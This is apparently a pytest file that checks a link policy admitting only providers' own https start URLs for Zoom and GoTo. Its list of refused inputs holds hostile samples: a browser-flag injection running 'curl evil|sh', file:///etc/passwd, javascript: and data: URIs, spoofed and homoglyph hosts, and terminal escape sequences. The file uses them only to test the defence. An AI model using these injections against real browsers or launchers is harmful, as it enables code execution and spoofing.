"""Which start links a browser may be sent to: the provider's own https hosts only.

The demo profile (the sandbox on loopback) also allows its own API origins, and only
the demo: the same loopback links in a real profile are refused.
"""

from __future__ import annotations

import pytest

from tui.core.deck.links import link_policy, vetted
from tui.core.models import NOT_VETTED, Provider, StartUrl
from tui.core.settings.config import ProfileSettings, demo_profile

REAL = ProfileSettings()
SANDBOX = "http://127.0.0.1:48213"

#: Links shaped as the clouds send them.
GOOD = [
    (Provider.ZOOM, "https://us02web.zoom.us/s/81234567890?zak=eyJhbGciOi.x-y_z"),
    (Provider.ZOOM, "https://zoom.us/s/81234567890?zak=abc"),
    (Provider.ZOOM, "https://acme.zoomgov.com/s/1612345678?zak=abc"),
    (Provider.GOTO_MEETING, "https://global.gotomeeting.com/start/123456789?token=a%2Bb"),
    (Provider.GOTO_MEETING, "https://meet.goto.com/start/123456789"),
    (Provider.GOTO_TRAINING, "https://global.gototraining.com/start/organizer/1234?t=x"),
    (Provider.GOTO_ASSIST, "https://app.gotoassist.com/start/abcd-ef"),
    (Provider.GOTO_ASSIST, "https://www.fastsupport.com/1234567"),
]
#: Links an API could send to fool the browser or the person.
BAD = [
    (Provider.GOTO_MEETING, "--renderer-cmd-prefix=/bin/sh -c 'curl evil|sh'"),
    (Provider.GOTO_MEETING, "-new-instance"),
    (Provider.GOTO_MEETING, "javascript:alert(1)"),
    (Provider.GOTO_MEETING, "file:///etc/passwd"),
    (Provider.GOTO_MEETING, "data:text/html,<script>x</script>"),
    (Provider.GOTO_MEETING, "http://global.gotomeeting.com/start/1"),
    (Provider.GOTO_MEETING, "https://global.gotomeeting.com.evil.example/start/1"),
    (Provider.GOTO_MEETING, "https://evilgotomeeting.com/start/1"),
    (Provider.GOTO_MEETING, "https://global.gotomeeting.com@evil.example/start/1"),
    (Provider.GOTO_MEETING, "https://evil.example\\@global.gotomeeting.com/"),
    (Provider.GOTO_MEETING, "https://global.gotomeeting.com:8443/start/1"),
    (Provider.GOTO_MEETING, "https://global.gotomeeting.com/start/1 --incognito"),
    (Provider.GOTO_MEETING, "https://global.gotomeeting.com/\x1b]52;c;ZXZpbA==\x07"),
    (Provider.GOTO_MEETING, "https://glob\u0430l.gotomeeting.com/start/1"),  # Cyrillic a
    (Provider.GOTO_MEETING, "https://zoom.us/s/1"),  # another provider's host
    (Provider.ZOOM, "https://global.gotomeeting.com/start/1"),
    (Provider.ZOOM, "https:///zoom.us/s/1"),
    (Provider.ZOOM, "https://[::1]:443/s/1"),
    (Provider.ZOOM, ""),
    (Provider.ZOOM, "https://zoom.us/" + "a" * 9000),
    (Provider.ZOOM, f"{SANDBOX}/zoom/s/1?zak=x"),  # the sandbox, but not in the demo
]


@pytest.mark.parametrize(("provider", "url"), GOOD)
def test_the_providers_own_https_links_may_open(provider: Provider, url: str) -> None:
    assert link_policy(provider, REAL, demo=False).refusal(url) is None


@pytest.mark.parametrize(("provider", "url"), BAD)
def test_any_other_link_is_refused_with_a_reason(provider: Provider, url: str) -> None:
    reason = link_policy(provider, REAL, demo=False).refusal(url)
    assert reason, url
    assert provider.label in reason
    assert "\x1b" not in reason and len(reason) < 400


def test_the_demo_allows_exactly_its_sandbox_origins() -> None:
    demo = demo_profile(SANDBOX)
    zoom = link_policy(Provider.ZOOM, demo, demo=True)
    goto = link_policy(Provider.GOTO_MEETING, demo, demo=True)
    assert zoom.refusal(f"{SANDBOX}/zoom/s/1?zak=sandbox-x") is None
    assert goto.refusal(f"{SANDBOX}/_sandbox/start/g2m/1") is None
    assert goto.refusal("https://global.gotomeeting.com/start/1") is None  # still
    for other in (
        "http://127.0.0.1:1/_sandbox/start/g2m/1",
        "http://localhost:48213/x",
        "https://127.0.0.1:48213/x",
        "http://10.0.0.1:48213/x",
        f"--x={SANDBOX}/x",
        f"{SANDBOX}/\x1b]0;t\x07",
    ):
        assert goto.refusal(other), other
    # The same sandbox configured as a real profile is no demo: its links are refused.
    assert link_policy(Provider.ZOOM, demo, demo=False).refusal(f"{SANDBOX}/zoom/s/1")


def test_a_start_link_is_unvetted_until_the_deck_vets_it() -> None:
    start = StartUrl("https://zoom.us/s/1?zak=x")
    assert start.refusal == NOT_VETTED
    assert vetted(start, link_policy(Provider.ZOOM, REAL, demo=False)).refusal is None
    bad = vetted(StartUrl("--x"), link_policy(Provider.ZOOM, REAL, demo=False))
    assert bad.refusal and bad.url == "--x"
    assert "zak" not in repr(bad) and "zak" not in str(start)
